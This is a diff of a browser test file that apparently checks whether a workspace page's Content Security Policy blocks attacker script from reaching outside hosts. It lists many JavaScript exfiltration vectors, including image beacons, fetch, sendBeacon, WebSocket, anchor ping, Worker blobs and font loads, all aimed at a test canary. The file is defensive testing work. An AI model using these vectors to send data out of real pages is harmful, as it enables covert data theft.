@@ -1,174 +1,104 @@
-"""Script in a workspace's page that wants to tell somebody something: nothing that it starts arrives."""
+"""Requests that a page makes by itself, or that text in it makes: each kind has its line of the policy.
 
-from collections.abc import Iterator
+The worst is assumed: script of the attacker's runs in the workspace's page. Text alone can do less.
+"""
 
 import pytest
-from aiohttp import web
 
 from tests.attacks.claims import By, Stops, attack
-from tests.attacks.pages import Canary, ordinary, run, workspace
-from tests.browser.framed import framed
-from tests.browser.people import browser
-from tests.workspaces.gate.conftest import BASE
+from tests.attacks.pages import browser, site, whole_site
 
-__all__ = ["browser", "framed"]
+__all__ = ["browser", "site", "whole_site"]
 pytestmark = pytest.mark.browser
 HEADERS = "workspaces/gate/headers.py"
+OUR_IMAGES = 'f"img-src {base}/static/ {base}/lab/ {base}/kernelspecs/ data: blob:",'
+OUR_STYLES = "f\"style-src {base}/static/ {base}/lab/ 'unsafe-inline'\","
+IMAGES = {
+    "image": "html(`<img src=${url}>`)",
+    "picture": "html(`<picture><source srcset=${url}><img src=x:></picture>`)",
+    "drawing": "html(`<svg width=9 height=9><image href=${url} width=9 height=9 /></svg>`)",
+    "inline-style": "html(`<p style='background: url(${url})'>x</p>`)",
+    "sheet": "html(`<p class=sheet>x</p>`); style(`p.sheet { background: url(${url}) }`)",
+    "list": "html(`<ul style='list-style-image: url(${url})'><li>x</ul>`)",
+    "button": "html(`<input type=image src=${url}>`)",
+    "poster": "html(`<video poster=${url}></video>`)",
+    "unseen": "new Image().src = url",
+}
+STYLES = {
+    "import": "style(`@import url(${url});`)",
+    "link": "make('link', { rel: 'stylesheet', href: url })",
+}
+FONTS = {
+    "face": "html(`<p style='font-family: f'>x</p>`); style(`@font-face { font-family: f; src: url(${url}) }`)",
+    "object": "new FontFace('made', `url(${url})`).load().catch(() => 0)",
+}
+CONNECTIONS = {
+    "fetch": "fetch(url, { mode: 'no-cors' }).catch(() => 0)",
+    "kept": "fetch(url, { mode: 'no-cors', method: 'POST', keepalive: true, body: 'x' }).catch(() => 0)",
+    "beacon": "navigator.sendBeacon(url, 'x')",
+    "request": "const r = new XMLHttpRequest(); r.open('GET', url); r.send()",
+    "channel": "new WebSocket(url.replace('http', 'ws'))",
+    "events": "new EventSource(url)",
+    "ping": "html(`<a id=ping href='#' ping=${url}>x</a>`); document.getElementById('ping').click()",
+    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${url}', { mode: 'no-cors' })`])))",
+}
+MEDIA = {
+    "video": "html(`<video src=${url} autoplay></video>`)",
+    "audio": "html(`<audio src=${url} autoplay></audio>`)",
+    "source": "html(`<video autoplay><source src=${url} type=video/mp4></video>`)",
+    "prefetch": "make('link', { rel: 'prefetch', href: url })",
+}
+FRAMES = {"iframe": "make('iframe', { src: url })"}
 
 
-@pytest.fixture
-def canary() -> Iterator[Canary]:
-    made = Canary()
-    yield made
-    made.close()
+def openly(site, vectors) -> set[str]:
+    """Which are heard from the page that a plain proxy hands on."""
+    return site.left(site.openly()[1], vectors, len(vectors))
 
 
-@pytest.fixture
-def home() -> Iterator[Canary]:
-    """Where the controls' page comes from."""
-    made = Canary()
-    yield made
-    made.close()
+@attack("beacon-image", by=By.PAGE, stops=Stops(HEADERS, OUR_IMAGES, '"img-src *",'))
+def test_no_image_is_asked_for_outside(site, control):
+    with control("in a page of a plain proxy each is asked for"):
+        assert openly(site, IMAGES) == set(IMAGES)
+    assert site.left(site.open()[1], IMAGES) == set()
 
 
-def from_an_ordinary_page(browser, home, canary, script: str) -> list[str]:
-    """What the canary hears of a script where nothing stops it."""
-    with ordinary(browser, home) as page:
-        run(page, page.main_frame, script, canary.url)
-    heard, canary.heard = canary.heard, []
-    return heard
-
-
-def from_a_workspace(browser, framed, canary, script: str) -> list[str]:
-    """And of the same in a workspace's page."""
-    with workspace(browser, framed) as (page, inner):
-        run(page, inner, script, canary.url)
-        assert f"{BASE}lab" in inner.url, "the frame is where it was"
-    return canary.heard
-
-
-@attack(
-    "beacon-by-image",
-    by=By.PAGE,
-    stops=Stops(HEADERS, 'f"img-src {base}/static/ {base}/lab/ {base}/kernelspecs/ data: blob:",', '"img-src *",'),
-)
-@pytest.mark.parametrize(
-    "script",
-    [
-        "url => { new Image().src = url + '/image' }",
-        "url => { const e = document.createElement('video'); e.poster = url; document.body.append(e) }",
-        "url => { document.body.style.backgroundImage = `url(${url}/background)` }",
-        "url => { const e = document.createElement('link'); e.rel = 'icon'; e.href = url; document.head.append(e);"
-        " new Image().srcset = url + '/set 1x' }",
-    ],
-)
-def test_no_image_is_asked_for(browser, framed, canary, control, home, script):
-    with control("in an ordinary page it is heard"):
-        assert from_an_ordinary_page(browser, home, canary, script)
-    assert from_a_workspace(browser, framed, canary, script) == []
-
-
-@attack(
-    "beacon-by-style",
-    by=By.PAGE,
-    stops=Stops(
-        HEADERS, "f\"style-src {base}/static/ {base}/lab/ 'unsafe-inline'\",", "\"style-src * 'unsafe-inline'\","
-    ),
-)
-@pytest.mark.parametrize(
-    "script",
-    [
-        "url => { const e = document.createElement('link'); e.rel = 'stylesheet'; e.href = url;"
-        " document.head.append(e) }",
-        "url => { const e = document.createElement('style'); e.textContent = `@import '${url}'`;"
-        " document.head.append(e) }",
-    ],
-)
-def test_no_style_is_asked_for(browser, framed, canary, control, home, script):
-    with control("in an ordinary page it is heard"):
-        assert from_an_ordinary_page(browser, home, canary, script)
-    assert from_a_workspace(browser, framed, canary, script) == []
+@attack("beacon-style", by=By.PAGE, stops=Stops(HEADERS, OUR_STYLES, "\"style-src * 'unsafe-inline'\","))
+def test_no_style_is_asked_for_outside(site, control):
+    with control("in a page of a plain proxy each is asked for"):
+        assert openly(site, STYLES) == set(STYLES)
+    assert site.left(site.open()[1], STYLES) == set()
 
 
 @attack(
-    "beacon-by-font",
+    "beacon-font",
     by=By.PAGE,
     stops=Stops(HEADERS, 'f"font-src {base}/static/ {base}/lab/ data:",', '"font-src *",'),
 )
-def test_no_font_is_asked_for(browser, framed, canary, control, home):
-    script = "url => new FontFace('x', `url(${url}/font)`).load().catch(() => 0)"
-    with control("in an ordinary page it is heard"):
-        assert from_an_ordinary_page(browser, home, canary, script)
-    assert from_a_workspace(browser, framed, canary, script) == []
-
-
-CONNECT = Stops(HEADERS, 'f"connect-src {base}/ {channel}/",', '"connect-src *",')
-
-
-@attack("beacon-by-connection", by=By.PAGE, stops=CONNECT)
-@pytest.mark.parametrize(
-    "script",
-    [
-        "url => fetch(url, { mode: 'no-cors' }).catch(() => 0)",
-        "url => { navigator.sendBeacon(url, 'rows') }",
-        "url => { new WebSocket(url.replace('http', 'ws')) }",
-        "url => { new EventSource(url) }",
-        "url => { const x = new XMLHttpRequest(); x.open('POST', url); x.send('rows') }",
-        "url => { const e = document.createElement('a'); e.href = '#'; e.ping = url; document.body.append(e);"
-        " e.click() }",
-    ],
-)
-def test_no_connection_is_opened(browser, framed, canary, control, home, script):
-    with control("in an ordinary page it is heard"):
-        assert from_an_ordinary_page(browser, home, canary, script)
-    assert from_a_workspace(browser, framed, canary, script) == []
-
-
-@attack("reading-another-project", by=By.PAGE, stops=CONNECT)
-def test_a_page_of_one_project_does_not_read_another_of_the_same_person(browser, framed, control):
-    """Both are of one origin, and the browser sends the other's cookie along."""
-    other = f"{framed.world.work}/user/alice/diabetes-care/api/contents"
-    asked = []
-
-    async def rows(request):
-        asked.append(request.path)
-        return web.json_response({"content": "rows"})
-
-    place = ("alice", "diabetes-care")
-    framed.run(framed.world.workspace(rows, place))
-    script = "url => fetch(url).then(answer => answer.text()).catch(error => String(error))"
-    with workspace(browser, framed) as (page, inner):
-        name, _, value = framed.world.inside(project="diabetes-care")["Cookie"].partition("=")
-        path = "/user/alice/diabetes-care/"
-        page.context.add_cookies([{"name": name, "value": value, "domain": "localhost", "path": path}])
-        with control("with the cookies of this browser it is read, outside the page"):
-            assert "rows" in page.context.request.get(other).text()
-        asked.clear()
-        assert "rows" not in inner.evaluate(script, other)
-    assert asked == []
+def test_no_font_is_asked_for_outside(site, control):
+    with control("in a page of a plain proxy each is asked for"):
+        assert openly(site, FONTS) == set(FONTS)
+    assert site.left(site.open()[1], FONTS) == set()
 
 
 @attack(
-    "script-of-somebody-else",
-    by=By.PAGE,
-    stops=Stops(
-        HEADERS,
-        "f\"script-src {base}/static/ {base}/lab/extensions/ 'unsafe-eval'\",",
-        "\"script-src * 'unsafe-eval'\",",
-    ),
+    "beacon-connection", by=By.PAGE, stops=Stops(HEADERS, 'f"connect-src {base}/ {channel}/",', '"connect-src *",')
 )
-def test_no_script_of_another_address_is_loaded(browser, framed, canary, control, home):
-    script = "url => import(url + '/module.js').catch(() => 0)"
-    with control("in an ordinary page it is heard"):
-        assert from_an_ordinary_page(browser, home, canary, script)
-    assert from_a_workspace(browser, framed, canary, script) == []
+def test_nothing_is_sent_outside_by_script_or_by_a_link_that_tells(site, control):
+    with control("in a page of a plain proxy each is sent"):
+        assert openly(site, CONNECTIONS) == set(CONNECTIONS)
+    assert site.left(site.open()[1], CONNECTIONS) == set()
 
 
-@attack("frame-within-the-frame", by=By.PAGE, stops=Stops(HEADERS, "\"frame-src 'none'\",", '"frame-src *",'))
-def test_nothing_is_shown_in_a_frame_of_its_own(browser, framed, canary, control, home):
-    script = (
-        "url => { const e = document.createElement('iframe'); e.src = url + '/frame'; document.body.append(e) }"
-    )
-    with control("in an ordinary page it is heard"):
-        assert from_an_ordinary_page(browser, home, canary, script)
-    assert from_a_workspace(browser, framed, canary, script) == []
+@attack("beacon-media", by=By.PAGE, stops=Stops(HEADERS, "\"default-src 'none'\",", '"default-src *",'))
+def test_whatever_has_no_line_of_its_own_is_not_asked_for(site, control):
+    with control("in a page of a plain proxy each is asked for"):
+        assert openly(site, MEDIA) == set(MEDIA)
+    assert site.left(site.open()[1], MEDIA) == set()
+
+
+@attack("beacon-frame", by=By.PAGE, stops=Stops(HEADERS, "\"frame-src 'none'\",", '"frame-src *",'))
+def test_no_frame_is_opened_within_the_workspaces_page(site, control):
+    with control("in a page of a plain proxy it is opened"):
+        assert openly(site, FRAMES) == set(FRAMES)
+    assert site.left(site.open()[1], FRAMES) == set()
